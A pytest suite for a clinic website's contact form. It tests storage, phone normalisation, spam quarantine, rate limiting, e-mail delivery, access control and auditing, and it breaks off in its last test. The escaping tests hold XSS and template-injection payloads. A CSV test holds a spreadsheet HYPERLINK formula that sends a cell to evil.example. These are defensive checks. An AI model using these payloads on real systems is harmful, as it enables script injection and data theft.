"""Enquiries are never lost: stored before anything can fail, kept on a mistake, escaped
everywhere, and spam is quarantined rather than dropped."""

import csv
import datetime
import io

from django.core.management import call_command
from django.utils import timezone

import openpyxl
import pytest
import time_machine
from bs4 import BeautifulSoup

from contact.forms import make_token
from contact.models import ContactPage, Enquiry, Notification
from tests import factories
from tests.helpers import run_python


def aged_token(seconds=30):
    """A form token as if the form had been shown `seconds` ago."""
    with time_machine.travel(timezone.now() - datetime.timedelta(seconds=seconds)):
        return make_token()


def valid(**overrides):
    data = {
        "full_name": "Mariam Al Suwaidi",
        "phone_number": "050 123 4567",
        "email_address": "mariam@example.com",
        "preferred_contact_method": "WhatsApp",
        "service": "Physiotherapy",
        "how_can_we_help": "Lower back pain after lifting.",
        "consent": "on",
        "form_token": aged_token(),
        "website": "",
    }
    data.update(overrides)
    return data


def test_valid_enquiry_is_stored_then_redirected_to_the_thank_you_text(client, contact_page):
    response = client.post(contact_page.url, valid())

    assert response.status_code == 302
    assert response["Location"] == "/contact/?thank-you"
    enquiry = Enquiry.objects.get(page=contact_page)
    assert enquiry.form_data["full_name"] == "Mariam Al Suwaidi"
    assert enquiry.form_data["phone_number"] == "+971501234567"
    assert not enquiry.is_spam
    assert enquiry.consent_text == contact_page.consent_text
    assert enquiry.consent_version == contact_page.consent_version
    # Only the staff-built fields are stored as answers: no token, honeypot or consent noise.
    assert set(enquiry.form_data) == {
        "full_name",
        "phone_number",
        "email_address",
        "preferred_contact_method",
        "service",
        "how_can_we_help",
    }
    thanks = client.get(response["Location"])
    assert b"Thank you: we will call you back today." in thanks.content


def test_nothing_is_sent_during_the_request(client, contact_page, mailoutbox):
    client.post(contact_page.url, valid())
    assert mailoutbox == []
    notification = Notification.objects.get()
    assert notification.status == Notification.Status.PENDING
    assert notification.kind == Notification.Kind.STAFF


@pytest.mark.parametrize(
    "typed",
    ["050 123 4567", "+971 50 123 4567", "00971501234567", "٠٥٠١٢٣٤٥٦٧", "+٩٧١٥٠١٢٣٤٥٦٧"],
)
def test_uae_phone_formats_are_stored_as_e164(client, contact_page, typed):
    client.post(contact_page.url, valid(phone_number=typed))
    assert Enquiry.objects.get().form_data["phone_number"] == "+971501234567"


@pytest.mark.parametrize("typed", ["06 555 0100 ext 5", "+971 6 555 0100 ext. 5", "065550100 x5"])
def test_an_extension_is_kept_after_the_number(client, contact_page, typed):
    client.post(contact_page.url, valid(phone_number=typed))
    assert Enquiry.objects.get().form_data["phone_number"] == "+97165550100 ext. 5"


@pytest.mark.parametrize("typed", ["+971 50 123 456", "+971 12 345 6789", "abc", "12"])
def test_invalid_phone_numbers_get_a_clear_error(client, contact_page, typed):
    response = client.post(contact_page.url, valid(phone_number=typed))
    assert response.status_code == 200
    html = BeautifulSoup(response.content, "html.parser")
    assert "valid phone number" in html.find(id="id_phone_number_error").get_text()
    assert Enquiry.objects.count() == 0


def test_arabic_and_other_scripts_are_stored_and_shown_exactly(client, admin_client, contact_page):
    name = "فاطمة الزهراء"
    message = "ألم في أسفل الظهر منذ أسبوع. 腰痛"
    client.post(contact_page.url, valid(full_name=name, how_can_we_help=message))
    enquiry = Enquiry.objects.get()
    assert enquiry.form_data["full_name"] == name
    assert enquiry.form_data["how_can_we_help"] == message
    shown = admin_client.get(f"/admin/enquiries/inspect/{enquiry.pk}/").content.decode()
    assert name in shown and message in shown


def test_invisible_direction_overrides_are_stripped_from_answers(client, contact_page):
    client.post(contact_page.url, valid(full_name="Ali\u202e gnp.exe"))
    assert Enquiry.objects.get().form_data["full_name"] == "Ali gnp.exe"


def test_mistakes_are_shown_next_to_fields_and_typed_values_are_kept(client, contact_page):
    data = valid(full_name="", email_address="not-an-email")
    data.pop("consent")

    response = client.post(contact_page.url, data)

    assert response.status_code == 200
    assert Enquiry.objects.count() == 0
    html = BeautifulSoup(response.content, "html.parser")
    assert html.find(class_="form__summary")["role"] == "alert"
    name = html.find("input", attrs={"name": "full_name"})
    assert name["aria-invalid"] == "true"
    assert "id_full_name_error" in name["aria-describedby"].split()
    assert html.find(id="id_full_name_error").get_text(strip=True)
    assert html.find(id="id_consent_error").get_text(strip=True)
    assert html.find(id="id_email_address_error") is not None
    # What the visitor typed survives the round trip.
    assert html.find("input", attrs={"name": "phone_number"})["value"] == "050 123 4567"
    assert html.find("textarea", attrs={"name": "how_can_we_help"}).get_text().strip() == (
        "Lower back pain after lifting."
    )
    checked = html.find("input", attrs={"name": "preferred_contact_method", "checked": True})
    assert checked["value"] == "WhatsApp"
    selected = html.find("select", attrs={"name": "service"}).find("option", selected=True)
    assert selected["value"] == "Physiotherapy"


def test_overlong_message_is_a_form_error_not_a_crash(client, contact_page):
    response = client.post(contact_page.url, valid(how_can_we_help="x" * 5001))
    assert response.status_code == 200
    assert Enquiry.objects.count() == 0
    assert b"id_how_can_we_help_error" in response.content


def test_double_click_and_refresh_store_one_enquiry(client, contact_page):
    data = valid()
    first = client.post(contact_page.url, data)
    second = client.post(contact_page.url, data)

    assert first.status_code == second.status_code == 302
    assert Enquiry.objects.count() == 1
    assert Notification.objects.count() == 1


def test_the_same_form_sent_with_different_answers_is_a_new_enquiry(client, contact_page):
    token = aged_token()
    client.post(contact_page.url, valid(form_token=token))
    client.post(contact_page.url, valid(form_token=token, full_name="Someone Else"))
    assert Enquiry.objects.count() == 2


def test_embedded_form_records_the_article_and_campaign(client, contact_page, article):
    article.body = [
        {
            "type": "contact_form",
            "value": {"form_page": contact_page.pk, "heading": "Book", "intro": ""},
        }
    ]
    article.save_revision().publish()

    page = client.get(article.url + "?utm_source=instagram&utm_campaign=backpain")
    form = BeautifulSoup(page.content, "html.parser").find("form", class_="form")
    hidden = {i["name"]: i.get("value", "") for i in form.find_all("input", type="hidden")}
    assert hidden["source_page"] == str(article.pk)
    assert hidden["utm_source"] == "instagram"
    assert hidden["utm_campaign"] == "backpain"

    data = valid(**{k: v for k, v in hidden.items() if k != "form_token"})
    client.post(form["action"], data)

    enquiry = Enquiry.objects.get()
    assert enquiry.source_page_id == article.pk
    assert (enquiry.utm_source, enquiry.utm_campaign) == ("instagram", "backpain")
    assert enquiry.get_data()["sent_from"] == article.title


def test_campaign_fields_are_left_out_of_the_form_when_there_is_no_campaign(client, contact_page):
    form = BeautifulSoup(client.get(contact_page.url).content, "html.parser").find("form")
    hidden = {i["name"]: i.get("value", "") for i in form.find_all("input", type="hidden")}
    assert set(hidden) == {"csrfmiddlewaretoken", "form_token", "source_page"}
    assert all(hidden.values())


def test_a_hidden_field_staff_added_is_always_in_the_form(client, home):
    page = factories.ContactPageFactory(
        parent=home, slug="referrals", fields=[("Referral code", "hidden", False, "")]
    )
    form = BeautifulSoup(client.get(page.url).content, "html.parser").find("form")
    assert form.find("input", attrs={"type": "hidden", "name": "referral_code"}) is not None


# --- spam: quarantined, never dropped ---------------------------------------------------------


@pytest.mark.parametrize(
    ("overrides", "reason"),
    [
        ({"website": "http://spam.example"}, "honeypot"),
        ({"form_token": "FRESH"}, "after the form was shown"),
        ({"form_token": ""}, "no form token"),
        ({"form_token": "forged:token:value"}, "forged"),
        (
            {"how_can_we_help": "Buy http://a.example http://b.example www.c.example"},
            "3 links",
        ),
    ],
)
def test_suspected_spam_is_quarantined_without_notification(
    client, contact_page, overrides, reason
):
    if overrides.get("form_token") == "FRESH":
        overrides = {"form_token": make_token()}  # shown a moment ago: faster than a human
    response = client.post(contact_page.url, valid(**overrides))

    assert response.status_code == 302  # the sender sees the normal thank-you
    enquiry = Enquiry.objects.get()
    assert enquiry.is_spam
    assert reason in enquiry.spam_reason
    assert Notification.objects.count() == 0


def test_token_from_the_future_or_too_old_is_quarantined(client, contact_page):
    with time_machine.travel(timezone.now() + datetime.timedelta(hours=1)):
        future = make_token()
    client.post(contact_page.url, valid(form_token=future))
    with time_machine.travel(timezone.now() - datetime.timedelta(days=8)):
        stale = make_token()
    client.post(contact_page.url, valid(form_token=stale, full_name="Second"))
    reasons = sorted(Enquiry.objects.values_list("spam_reason", flat=True))
    assert reasons == ["form token expired", "form token from the future"]


def test_a_human_who_takes_their_time_is_never_quarantined(client, contact_page):
    for n, seconds in enumerate([4, 60, 3600, 86400 * 6]):
        client.post(contact_page.url, valid(form_token=aged_token(seconds), full_name=f"P{n}"))
    assert Enquiry.objects.filter(is_spam=False).count() == 4


def test_burst_from_one_address_is_bounded_and_other_addresses_are_unaffected(client, contact_page):
    statuses = []
    for n in range(200):
        response = client.post(
            contact_page.url, valid(full_name=f"Bot {n}"), REMOTE_ADDR="203.0.113.9"
        )
        statuses.append(response.status_code)
    assert statuses.count(302) == 5
    assert statuses.count(429) == 195
    assert Enquiry.objects.count() == 5

    for n in range(3):
        response = client.post(
            contact_page.url, valid(full_name=f"Patient {n}"), REMOTE_ADDR=f"198.51.100.{n}"
        )
        assert response.status_code == 302
    assert Enquiry.objects.filter(form_data__full_name__startswith="Patient").count() == 3


def test_behind_the_proxy_each_visitor_has_their_own_limit(client, contact_page, settings):
    """Every request arrives from the proxy's address; the visitor's is the one it appended."""
    settings.TRUSTED_PROXY_COUNT = 1

    def post(visitor, name):
        return client.post(
            contact_page.url,
            valid(full_name=name),
            REMOTE_ADDR="10.0.0.2",
            HTTP_X_FORWARDED_FOR=f"192.0.2.99, {visitor}",  # the first hop is the client's say
        )

    assert [post("203.0.113.9", f"Bot {n}").status_code for n in range(6)] == [302] * 5 + [429]
    assert post("198.51.100.4", "Patient").status_code == 302
    assert Enquiry.objects.filter(form_data__full_name="Patient").exists()


def test_rate_limited_visitor_keeps_their_text_and_sees_the_phone_number(client, contact_page):
    from wagtail.models import Site

    from home.models import ClinicSettings

    clinic = ClinicSettings.for_site(Site.objects.get(is_default_site=True))
    clinic.phone = "+971 6 555 0100"
    clinic.save()
    for n in range(5):
        client.post(contact_page.url, valid(full_name=f"P{n}"))
    response = client.post(contact_page.url, valid(full_name="Still typed"))

    assert response.status_code == 429
    html = BeautifulSoup(response.content, "html.parser")
    assert html.find("input", attrs={"name": "full_name"})["value"] == "Still typed"
    assert html.find("a", href="tel:+97165550100") is not None


def test_released_enquiry_is_notified(admin_client, contact_page):
    admin_client.post(contact_page.url, valid(website="filled"))
    enquiry = Enquiry.objects.get()
    assert enquiry.is_spam

    response = admin_client.post(f"/admin/enquiries/release/{enquiry.pk}/")

    assert response.status_code == 302
    enquiry.refresh_from_db()
    assert not enquiry.is_spam
    assert enquiry.notifications.get().status == Notification.Status.PENDING


# --- escaping ---------------------------------------------------------------------------------

PAYLOADS = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "<svg onload=alert(1)>",
    "javascript:alert(1)",
    "{{ 7*7 }}{% debug %}",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_payloads_are_escaped_on_the_error_page_admin_and_export(
    client, admin_client, contact_page, payload
):
    error_page = client.post(
        contact_page.url, valid(full_name="", how_can_we_help=payload, service="")
    )
    assert_escaped(error_page.content, payload)

    client.post(contact_page.url, valid(full_name=payload, how_can_we_help=payload))
    enquiry = Enquiry.objects.get()
    assert enquiry.form_data["full_name"] == payload  # stored verbatim

    inspect = admin_client.get(f"/admin/enquiries/inspect/{enquiry.pk}/")
    assert inspect.status_code == 200
    assert_escaped(inspect.content, payload)
    listing = admin_client.get(f"/admin/forms/submissions/{contact_page.pk}/")
    assert listing.status_code == 200
    assert_escaped(listing.content, payload)
    csv_export = admin_client.get("/admin/enquiries/?export=csv")
    assert csv_export.status_code == 200
    rows = list(csv.DictReader(io.StringIO(b"".join(csv_export.streaming_content).decode())))
    assert len(rows) == 1
    # A spreadsheet carries the text exactly as typed: data, never markup or a formula.
    assert payload in next(value for key, value in rows[0].items() if "data" in key.lower())
    xlsx = admin_client.get("/admin/enquiries/?export=xlsx")
    workbook = openpyxl.load_workbook(io.BytesIO(b"".join(xlsx.streaming_content)))
    cells = [str(cell.value) for row in workbook.active.iter_rows() for cell in row]
    assert any(payload in cell for cell in cells)
    assert not any(cell.startswith("=") for cell in cells)


def assert_escaped(content: bytes, payload: str):
    html = content.decode()
    if "<" in payload:
        assert payload not in html
    soup = BeautifulSoup(html, "html.parser")
    for tag in soup.find_all(True):
        assert not any(attr.startswith("on") for attr in tag.attrs), tag
    assert not soup.find("script", string=lambda s: s and "alert(1)" in s)


# --- e-mail through a real SMTP server on loopback -------------------------------------------


def test_staff_notification_is_delivered_over_smtp_without_the_visitors_answers(
    client, contact_page, smtp_server
):
    client.post(contact_page.url, valid(how_can_we_help="Private health detail here"))

    call_command("run_worker", once=True, stdout=io.StringIO())

    assert len(smtp_server.messages) == 1
    message = smtp_server.messages[0]
    assert message["To"] == "frontdesk@example.com"
    body = message.get_payload(decode=True).decode()
    assert "Private health detail here" not in body
    assert "Mariam" not in body
    assert "/admin/enquiries/inspect/" in body
    assert Notification.objects.get().status == Notification.Status.SENT


def test_routing_sends_to_the_extra_desk_for_the_chosen_answer(client, home, smtp_server):
    from contact.models import NotificationRoute

    page = factories.ContactPageFactory(parent=home, slug="routed", routing_field="Service")
    NotificationRoute.objects.create(page=page, answer="Physiotherapy", to_address="physio@x.ae")
    client.post(page.url, valid(service="Physiotherapy"))
    client.post(page.url, valid(service="Dermatology", full_name="Other"))

    call_command("run_worker", once=True, stdout=io.StringIO())

    recipients = sorted(m["To"] for m in smtp_server.messages)
    assert recipients == ["frontdesk@example.com", "frontdesk@example.com, physio@x.ae"]


def test_confirmation_to_the_visitor_never_echoes_the_message(client, home, smtp_server):
    page = factories.ContactPageFactory(parent=home, slug="confirm", send_confirmation=True)
    client.post(page.url, valid(how_can_we_help="My knee hurts when climbing stairs"))

    call_command("run_worker", once=True, stdout=io.StringIO())

    to_visitor = [m for m in smtp_server.messages if m["To"] == "mariam@example.com"]
    assert len(to_visitor) == 1
    body = to_visitor[0].get_payload(decode=True).decode()
    assert "knee" not in body and "Mariam" not in body
    assert "received" in to_visitor[0]["Subject"]


def test_smtp_down_keeps_the_enquiry_retries_and_delivers_once_when_back(
    client, contact_page, smtp_server
):
    smtp_server.stop()

    response = client.post(contact_page.url, valid())
    assert response.status_code == 302  # the visitor still gets the thank-you
    assert Enquiry.objects.count() == 1

    call_command("run_worker", once=True, stdout=io.StringIO())
    notification = Notification.objects.get()
    assert notification.status == Notification.Status.PENDING
    assert notification.attempts == 1
    assert notification.last_error
    retry_at = notification.next_attempt_at
    assert retry_at > timezone.now()

    call_command("run_worker", once=True, stdout=io.StringIO())  # not due yet: no attempt
    notification.refresh_from_db()
    assert notification.attempts == 1

    smtp_server.start()
    with time_machine.travel(retry_at + datetime.timedelta(seconds=1)):
        call_command("run_worker", once=True, stdout=io.StringIO())
        call_command("run_worker", once=True, stdout=io.StringIO())

    notification.refresh_from_db()
    assert notification.status == Notification.Status.SENT
    assert notification.attempts == 2
    assert len(smtp_server.messages) == 1  # delivered once, never twice


def test_notification_gives_up_after_max_attempts_and_can_be_resent(
    client, admin_client, contact_page, smtp_server, settings
):
    settings.CONTACT_NOTIFICATION_MAX_ATTEMPTS = 3
    smtp_server.stop()
    client.post(contact_page.url, valid())
    notification = Notification.objects.get()
    start = timezone.now()
    for hours in (2, 4, 6):
        with time_machine.travel(start + datetime.timedelta(hours=hours)):
            call_command("run_worker", once=True, stdout=io.StringIO())
        notification.refresh_from_db()
        if notification.status != Notification.Status.PENDING:
            break
    assert notification.status == Notification.Status.FAILED
    assert notification.attempts == 3

    inspect = admin_client.get(f"/admin/enquiries/inspect/{notification.enquiry_id}/")
    assert b"Failed" in inspect.content and b"Resend" in inspect.content

    smtp_server.start()
    admin_client.post(f"/admin/enquiries/resend/{notification.pk}/")
    call_command("run_worker", once=True, stdout=io.StringIO())
    notification.refresh_from_db()
    assert notification.status == Notification.Status.SENT
    assert len(smtp_server.messages) == 1


# --- privacy ----------------------------------------------------------------------------------


def test_purge_is_a_dry_run_by_default_and_deletes_exactly_the_old_ones(
    client, contact_page, settings
):
    settings.ENQUIRY_RETENTION_DAYS = 180
    now = timezone.now()
    for days in (0, 179, 181, 400):
        enquiry = Enquiry.objects.create(
            page=contact_page, form_data={"full_name": f"{days}"}, idempotency_key=str(days)
        )
        Enquiry.objects.filter(pk=enquiry.pk).update(
            submit_time=now - datetime.timedelta(days=days)
        )

    out = io.StringIO()
    call_command("purge_submissions", stdout=out)
    assert "Dry run: 2 enquiries" in out.getvalue()
    assert Enquiry.objects.count() == 4

    call_command("purge_submissions", apply=True, stdout=io.StringIO())
    remaining = sorted(str(e.form_data["full_name"]) for e in Enquiry.objects.all())
    assert remaining == ["0", "179"]


@pytest.fixture
def editor(django_user_model):
    from django.contrib.auth.models import Group

    user = django_user_model.objects.create_user("editor", password="x" * 16)
    user.groups.add(Group.objects.get(name="Editors"))
    return user


@pytest.fixture
def front_desk(django_user_model):
    from django.contrib.auth.models import Group

    user = django_user_model.objects.create_user("desk", password="x" * 16)
    user.groups.add(Group.objects.get(name="Front desk"))
    return user


def test_an_editor_cannot_see_list_export_or_delete_enquiries(client, contact_page, editor):
    client.post(contact_page.url, valid())
    enquiry = Enquiry.objects.get()
    client.force_login(editor)

    assert client.get("/admin/enquiries/").status_code in {302, 403}
    assert client.get(f"/admin/enquiries/inspect/{enquiry.pk}/").status_code in {302, 403}
    assert client.get("/admin/enquiries/?export=csv").status_code in {302, 403}
    assert client.get(f"/admin/forms/submissions/{contact_page.pk}/").status_code in {302, 403}
    forms_index = client.get("/admin/forms/")
    assert contact_page.title.encode() not in forms_index.content
    delete = client.post(
        f"/admin/forms/submissions/{contact_page.pk}/delete/?selected-submissions={enquiry.pk}"
    )
    assert delete.status_code in {302, 403}
    assert Enquiry.objects.filter(pk=enquiry.pk).exists()
    assert client.post(f"/admin/enquiries/release/{enquiry.pk}/").status_code in {302, 403}


def test_front_desk_sees_and_exports_and_each_access_is_audited(client, contact_page, front_desk):
    from wagtail.models import ModelLogEntry

    client.post(contact_page.url, valid())
    enquiry = Enquiry.objects.get()
    client.force_login(front_desk)

    assert client.get("/admin/enquiries/").status_code == 200
    assert client.get(f"/admin/enquiries/inspect/{enquiry.pk}/").status_code == 200
    export = client.get("/admin/enquiries/?export=xlsx")
    assert export.status_code == 200
    b"".join(export.streaming_content)

    actions = list(
        ModelLogEntry.objects.filter(user=front_desk, object_id=str(enquiry.pk)).values_list(
            "action", flat=True
        )
    )
    assert "contact.list" in actions
    assert "contact.view" in actions
    assert "contact.export" in actions


def test_enquiries_can_be_filtered_by_campaign_and_source(admin_client, contact_page, article):
    admin_client.post(contact_page.url, valid(utm_source="instagram", full_name="Insta"))
    admin_client.post(contact_page.url, valid(utm_source="google", full_name="Goog"))

    response = admin_client.get("/admin/enquiries/?utm_source=instagram")
    assert response.status_code == 200
    rows = BeautifulSoup(response.content, "html.parser").select("table tbody tr")
    assert len(rows) == 1


def test_message_field_help_text_asks_for_no_clinical_details(db):
    call_command("load_demo", stdout=io.StringIO())
    page = ContactPage.objects.get()
    message = page.form_fields.get(field_type="multiline")
    assert "medical" in message.help_text.lower() or "clinical" in message.help_text.lower()


def test_form_help_text_is_never_rendered_as_html(settings):
    assert settings.WAGTAILFORMS_HELP_TEXT_ALLOW_HTML is False


# serialized_rollback: a transactional test starts from a flushed database, so the rows
# Wagtail's migrations create (root page, locale, site) are restored first.
@pytest.mark.django_db(transaction=True, serialized_rollback=True)
def test_new_enquiries_are_stored_while_the_worker_is_busy_sending(contact_page, smtp_server):
    """The worker locks only the notification it is sending: a visitor's POST never waits for
    a slow mail server (on PostgreSQL, locking the joined page row made every POST wait)."""
    import threading

    from django.db import connection as main_connection
    from django.test import Client

    from contact.notifications import send_due

    Client().post(contact_page.url, valid(full_name="First"))
    smtp_server.gate = threading.Event()

    def work():
        from django.db import connection

        try:
            send_due()
        finally:
            connection.close()

    worker = threading.Thread(target=work)
    worker.start()
    assert smtp_server.receiving.wait(10), "the worker should be sending by now"

    response = Client().post(contact_page.url, valid(full_name="Second"))
    stored_while_sending = not smtp_server.messages and worker.is_alive()

    smtp_server.gate.set()
    worker.join(20)
    main_connection.close()
    assert response.status_code == 302
    assert stored_while_sending
    assert Enquiry.objects.count() == 2
    assert len(smtp_server.messages) == 1


@pytest.mark.parametrize("module", ["dev", "test", "production"])
def test_setting_email_host_selects_smtp_in_every_settings_module(module):
    import os

    env = {k: v for k, v in os.environ.items() if not k.startswith(("DJANGO_", "EMAIL_"))}
    env.update(
        DJANGO_SETTINGS_MODULE=f"cms.settings.{module}",
        EMAIL_HOST="127.0.0.1",
        EMAIL_PORT="2525",
        SECRET_KEY="x" * 60,
        ALLOWED_HOSTS="clinic.example.com",
        WAGTAILADMIN_BASE_URL="https://clinic.example.com",
    )
    code = (
        "import django; django.setup(); from django.conf import settings as s; "
        "print(s.EMAIL_BACKEND, s.EMAIL_HOST, s.EMAIL_PORT)"
    )
    result = run_python(code, env)
    assert result.stdout.strip().splitlines()[-1] == (
        "django.core.mail.backends.smtp.EmailBackend 127.0.0.1 2525"
    ), result.stderr


# --- found in review (2026-11-28) -------------------------------------------------------------


def test_a_mistake_with_the_honeypot_filled_is_shown_never_thanked(client, contact_page):
    # A password manager may fill the hidden field: the person must see their mistake.
    response = client.post(
        contact_page.url, valid(website="autofilled", phone_number="12", full_name="Typed")
    )

    assert response.status_code == 200
    html = BeautifulSoup(response.content, "html.parser")
    assert html.find("input", attrs={"name": "full_name"})["value"] == "Typed"
    assert html.find("input", attrs={"name": "phone_number"})["aria-invalid"] == "true"
    assert not Enquiry.objects.exists()


def test_mistakes_do_not_count_towards_the_rate_limit(client, contact_page):
    for _ in range(8):
        assert client.post(contact_page.url, valid(phone_number="12")).status_code == 200

    assert client.post(contact_page.url, valid()).status_code == 302
    assert Enquiry.objects.count() == 1


def test_the_rate_limit_never_keeps_a_reversible_hash_of_the_address(client, contact_page):
    import hashlib

    from tests.helpers import cache_keys

    client.post(contact_page.url, valid(), REMOTE_ADDR="203.0.113.9")

    keys = [key for key in cache_keys() if "contact-rate" in key]
    assert keys
    plain = hashlib.sha256(b"203.0.113.9").hexdigest()[:32]
    assert not any(plain in key for key in keys)


@pytest.mark.parametrize(
    "export_url", ["/admin/enquiries/?export=csv", "/admin/forms/submissions/{pk}/?export=csv"]
)
def test_a_csv_export_opens_typed_formulas_as_text(client, admin_client, contact_page, export_url):
    formula = '=HYPERLINK("http://evil.example/?"&A2,"Open")'
    client.post(
        contact_page.url, valid(full_name=formula, how_can_we_help="@SUM(1+1)", utm_source="=1+2")
    )
    assert Enquiry.objects.get().form_data["full_name"] == formula  # stored as typed

    export = admin_client.get(export_url.format(pk=contact_page.pk))
    assert export.status_code == 200
    rows = list(csv.reader(io.StringIO(b"".join(export.streaming_content).decode())))
    cells = [cell for row in rows[1:] for cell in row]
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells), cells
    assert "'=1+2" in cells  # the campaign column: neutralised, not dropped


def test_only_staff_who_may_delete_enquiries_get_wagtails_per_form_views(
    client, contact_page, front_desk
):
    from django.contrib.auth.models import Group

    # An editor who also works the front desk: may see enquiries, edit pages, not delete.
    front_desk.groups.add(Group.objects.get(name="Editors"))
    client.post(contact_page.url, valid())
    enquiry = Enquiry.objects.get()
    client.force_login(front_desk)

    delete = client.post(
        f"/admin/forms/submissions/{contact_page.pk}/delete/?selected-submissions={enquiry.pk}"
    )

    assert delete.status_code in {302, 403}
    assert Enquiry.objects.filter(pk=enquiry.pk).exists()
    assert client.get("/admin/enquiries/").status_code == 200  # where the front desk reads


def test_a_contact_page_holding_enquiries_cannot_be_deleted(client, admin_client, contact_page):
    from django.db.models import ProtectedError

    client.post(contact_page.url, valid())

    confirm = admin_client.get(f"/admin/pages/{contact_page.pk}/delete/", follow=True)
    assert "cannot be deleted" in confirm.content.decode()
    refused = admin_client.post(f"/admin/pages/{contact_page.pk}/delete/", follow=True)
    assert "cannot be deleted" in refused.content.decode()

    assert ContactPage.objects.filter(pk=contact_page.pk).exists()
    assert Enquiry.objects.count() == 1
    with pytest.raises(ProtectedError):  # the backstop, whatever deletes it
        contact_page.delete()


@pytest.mark.parametrize("how", ["one page", "bulk"])
def test_a_section_holding_a_contact_page_with_enquiries_cannot_be_deleted(
    client, admin_client, home, how
):
    section = factories.StandardPageFactory(parent=home, slug="clinics", title="Our clinics")
    form_page = factories.ContactPageFactory(parent=section, slug="book")
    client.post(form_page.url, valid())

    if how == "one page":
        response = admin_client.post(f"/admin/pages/{section.pk}/delete/", follow=True)
    else:
        response = admin_client.post(
            f"/admin/bulk/wagtailcore/page/delete/?id={section.pk}&next=/admin/pages/",
            follow=True,
        )

    assert "cannot be deleted" in response.content.decode()
    assert ContactPage.objects.filter(pk=form_page.pk).exists()
    assert Enquiry.objects.count() == 1


def test_a_contact_page_without_enquiries_can_still_be_deleted(admin_client, contact_page):
    admin_client.post(f"/admin/pages/{contact_page.pk}/delete/")
    assert not ContactPage.objects.filter(pk=contact_page.pk).exists()


@pytest.mark.django_db
def test_a_refused_form_gets_a_plain_page_with_the_phone_number(contact_page):
    from django.test import Client

    from wagtail.models import Site

    from home.models import ClinicSettings

    clinic = ClinicSettings.for_site(Site.objects.get(is_default_site=True))
    clinic.phone = "+971 6 555 0100"
    clinic.save()

    response = Client(enforce_csrf_checks=True).post(contact_page.url, valid())

    assert response.status_code == 403
    html = BeautifulSoup(response.content, "html.parser")
    assert html.h1.get_text() == "Sorry, your form was not sent"
    assert html.find("a", href="tel:+97165550100") is not None
    assert "CSRF" not in response.content.decode()
    assert not Enquiry.objects.exists()


def test_joiners_that_spell_words_are_kept(client, contact_page):
    persian = "می\u200cخواهم وقت بگیرم"  # "I want to book", spelt with a zero-width non-joiner
    client.post(contact_page.url, valid(how_can_we_help=persian))
    assert Enquiry.objects.get().form_data["how_can_we_help"] == persian


def test_a_required_answer_of_only_invisible_characters_is_a_mistake(client, contact_page):
    response = client.post(contact_page.url, valid(full_name="\u200b\u202e\ufeff"))

    assert response.status_code == 200
    html = BeautifulSoup(response.content, "html.parser")
    assert html.find("input", attrs={"name": "full_name"})["aria-invalid"] == "true"
    assert not Enquiry.objects.exists()


def test_a_notification_with_nobody_to_send_to_is_never_marked_sent(
    client, contact_page, smtp_server
):
    client.post(contact_page.url, valid())
    contact_page.to_address = ""  # cleared after the enquiry came in
    contact_page.save_revision().publish()

    call_command("run_worker", once=True, stdout=io.StringIO())

    notification = Notification.objects.get()
    assert notification.status == Notification.Status.PENDING  # retried once fixed
    assert "recipients" in notification.last_error
    assert smtp_server.messages == []


@pytest.mark.parametrize("typed", ["050 123 4567", "+971 50 123 4567", "MARIAM@example.com"])
def test_one_persons_enquiries_are_found_by_email_or_phone_however_written(
    client, admin_client, contact_page, typed
):
    client.post(contact_page.url, valid())
    client.post(
        contact_page.url,
        valid(full_name="Other", phone_number="055 765 4321", email_address="o@example.com"),
    )
    client.post(  # an address that holds hers: another person, never to be found with her
        contact_page.url,
        valid(
            full_name="Namesake", phone_number="056 111 2222", email_address="x.mariam@example.com"
        ),
    )
    theirs = Enquiry.objects.get(form_data__full_name="Mariam Al Suwaidi")

    response = admin_client.get("/admin/enquiries/", {"person": typed})

    assert response.status_code == 200
    assert [enquiry.pk for enquiry in response.context["object_list"]] == [theirs.pk]


def test_the_front_desk_dashboard_shows_failed_emails_and_quarantine(
    client, contact_page, front_desk, editor
):
    client.post(contact_page.url, valid())
    client.post(contact_page.url, valid(full_name="Bot", website="http://spam.example"))
    Notification.objects.update(status=Notification.Status.FAILED)

    client.force_login(front_desk)
    panel = BeautifulSoup(client.get("/admin/").content, "html.parser").find(
        "section", attrs={"aria-labelledby": "enquiries-panel-heading"}
    )
    text = " ".join(panel.get_text().split())
    assert "1 enquiry whose e-mail to the front desk failed" in text
    assert "1 enquiry held as suspected spam" in text
    failed_link = panel.find("a", string="See failed e-mails")["href"]
    listed = client.get(failed_link).context["object_list"]
    assert [e.form_data["full_name"] for e in listed] == ["Mariam Al Suwaidi"]

    client.force_login(editor)
    assert b"enquiries-panel-heading" not in client.get("/admin/").content


def test_listing_and_exporting_many_enquiries_costs_the_same_queries_as_a_few(client, contact_page):
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    from wagtail.models import ModelLogEntry

    def queries(url):
        with CaptureQueriesContext(connection) as captured:
            response = client.get(url)
            if response.streaming:
                b"".join(response.streaming_content)
        assert response.status_code == 200, url
        return len(captured)

    def post(n):
        client.post(contact_page.url, valid(full_name=f"Patient {n}"), REMOTE_ADDR=f"192.0.2.{n}")

    for n in range(2):
        post(n)
    admin = factories_superuser()
    client.force_login(admin)
    urls = ["/admin/enquiries/?export=csv", f"/admin/forms/submissions/{contact_page.pk}/"]
    few = [queries(url) for url in urls]
    client.logout()
    for n in range(2, 14):
        post(n)
    client.force_login(admin)
    many = [queries(url) for url in urls]

    assert many == few
    exported = ModelLogEntry.objects.filter(action="contact.export", user=admin)
    assert exported.count() == 2 + 14  # one entry per enquiry, each export
    assert exported.values("uuid").distinct().count() <= 2


def factories_superuser():
    from django.contrib.auth import get_user_model

    return get_user_model().objects.create_superuser("audit-admin", "a@example.com", "x" * 16)


def test_a_page_showing_mistakes_says_so_in_its_title(client, contact_page):
    # The title is the first thing a screen reader announces after the page reloads.
    mistaken = BeautifulSoup(
        client.post(contact_page.url, valid(full_name="")).content, "html.parser"
    )
    fresh = BeautifulSoup(client.get(contact_page.url).content, "html.parser")

    assert mistaken.title.get_text().startswith("Error: ")
    assert not fresh.title.get_text().startswith("Error")


def test_a_number_with_an_extension_is_found_by_the_number(client, admin_client, contact_page):
    client.post(contact_page.url, valid(phone_number="06 555 0100 ext 5"))
    client.post(contact_page.url, valid(full_name="Other", phone_number="06 555 0101"))

    response = admin_client.get("/admin/enquiries/", {"person": "06 555 0100"})

    names = [enquiry.form_data["full_name"] for enquiry in response.context["object_list"]]
